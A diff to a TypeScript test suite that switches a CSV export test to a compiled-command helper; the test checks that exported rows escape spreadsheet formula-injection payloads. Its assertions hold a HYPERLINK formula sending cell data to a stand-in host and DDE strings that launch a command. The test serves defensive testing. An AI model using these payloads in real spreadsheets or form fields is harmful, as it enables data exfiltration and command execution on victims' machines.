@@ -16,6 +16,7 @@ import {
   validPqrs,
   type RunningServer,
 } from './helpers.ts'
+import { compiledNodeArgs } from '../helpers/compiledCommand.ts'
 
 let server: RunningServer
 let client: Client
@@ -231,7 +232,7 @@ describe('script payloads', () => {
     statuses.push(minus.status)
     expect(minus.status).toBe(200)
 
-    const csv = execFileSync(process.execPath, ['--import', 'tsx', 'src/server/export.ts', 'pqrs'], {
+    const csv = execFileSync(process.execPath, compiledNodeArgs('src/server/export.ts', ['pqrs']), {
       cwd: ROOT,
       env: { ...process.env, DATA_DIR: server.dataDir },
       encoding: 'utf8',
@@ -241,7 +242,7 @@ describe('script payloads', () => {
     expect(line).toContain(`"'=HYPERLINK(""http://malo.example/?d=""&A1,""clic"")"`)
     expect(line).toContain(`"'+57 cmd|' /C calc'!A0"`)
     expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0\n""comillas"" y, comas"`)
-    const citas = execFileSync(process.execPath, ['--import', 'tsx', 'src/server/export.ts', 'citas'], {
+    const citas = execFileSync(process.execPath, compiledNodeArgs('src/server/export.ts', ['citas']), {
       cwd: ROOT,
       env: { ...process.env, DATA_DIR: server.dataDir },
       encoding: 'utf8',
